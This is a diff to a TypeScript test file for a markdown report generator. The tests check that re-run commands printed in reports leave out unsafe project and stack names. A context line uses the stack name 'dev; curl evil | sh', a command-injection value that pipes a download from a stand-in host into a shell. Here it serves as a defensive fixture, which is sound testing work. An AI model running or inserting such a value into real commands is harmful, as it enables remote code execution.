@@ -52,6 +52,14 @@ describe("the limits of a comment", () => {
     assert.equal(report.includes("hunter2"), false);
   });
 
+  it("says which project the rest of a report is to be had of", () => {
+    const words = (): string => "x".repeat(200);
+    const of = (folder: string): string => markdownReport([{ ...outcomeIn(words, "main", 60), folder }], []);
+    assert.match(of("account"), /^### `account\/main`$/m);
+    assert.match(of("account"), /All of it: `npm run preview -- --project account --stack main`/);
+    assert.match(of("a; b"), /All of it: `npm run preview -- --stack main`/);
+  });
+
   it("offers no name to a shell that a shell would take for more", () => {
     const report = markdownReport([outcomeIn(() => "x".repeat(200), "dev; curl evil | sh", 60)], []);
     assert.match(report, /All of it: `npm run preview -- --all-stacks`/);
